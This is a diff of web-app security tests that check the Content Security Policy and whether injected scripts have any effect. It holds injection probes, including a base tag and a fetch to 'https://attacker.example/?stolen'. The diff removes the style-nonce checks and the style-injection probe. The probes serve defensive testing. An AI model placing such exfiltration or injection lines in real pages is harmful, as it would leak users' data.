@@ -2,12 +2,10 @@ import { createHash } from 'node:crypto';
 import { expect, test } from './support/fixtures.ts';
 
 for (const path of ['/', '/terms', '/nowhere'])
-  test(`${path} has one inline script, by its hash, and no style without the nonce`, async ({ world }) => {
+  test(`${path} has one inline script, by its hash`, async ({ world }) => {
     const answer = await fetch(world.url + path);
     const html = await answer.text();
     const policy = answer.headers.get('content-security-policy') ?? '';
-    const [, nonce = ''] = /'nonce-([\w-]{24})'/.exec(policy) ?? [];
-    expect(nonce).not.toBe('');
     const scripts = [...html.matchAll(/<script\b([^>]*)>([^]*?)<\/script>/g)];
     const inline = scripts.filter(([, attributes]) => attributes === '');
     const hashes = inline.map(([, , code = '']) => createHash('sha256').update(code).digest('base64'));
@@ -16,10 +14,7 @@ for (const path of ['/', '/terms', '/nowhere'])
     for (const [, attributes, code] of scripts.filter((script) => !inline.includes(script))) {
       expect([attributes, code]).toEqual([expect.stringMatching(/ src="\/assets\//), '']);
     }
-    const styles = [...html.matchAll(/<style\b([^>]*)>/g)].map(([, attributes = '']) => attributes);
-    for (const attributes of styles) expect(attributes).toContain(`nonce="${nonce}"`);
-    expect(html.split(nonce).length).toBeGreaterThan(1);
-    expect(html).not.toMatch(/<[^>]+\son\w+=|STYLE_NONCE|javascript:/);
+    expect(html).not.toMatch(/<[^>]+\son\w+=|javascript:/);
   });
 
 test('injected markup and scripts have no effect', async ({ page, world }) => {
@@ -49,8 +44,6 @@ test('injected markup and scripts have no effect', async ({ page, world }) => {
           attempt(() => new Function('note("code from text")')());
           attempt(() => put('base', { href: 'https://attacker.example/' }));
           if (!document.baseURI.startsWith(location.origin)) note('base');
-          put('style', { textContent: 'body { outline: 3px solid red !important }' });
-          if (getComputedStyle(document.body).outlineStyle === 'solid') note('style element');
           await fetch('https://attacker.example/?stolen').then(() => note('sent'), () => undefined);
           document.querySelectorAll('button').forEach((button) => button.hasAttribute('onclick') && button.click());
           await new Promise(requestAnimationFrame);
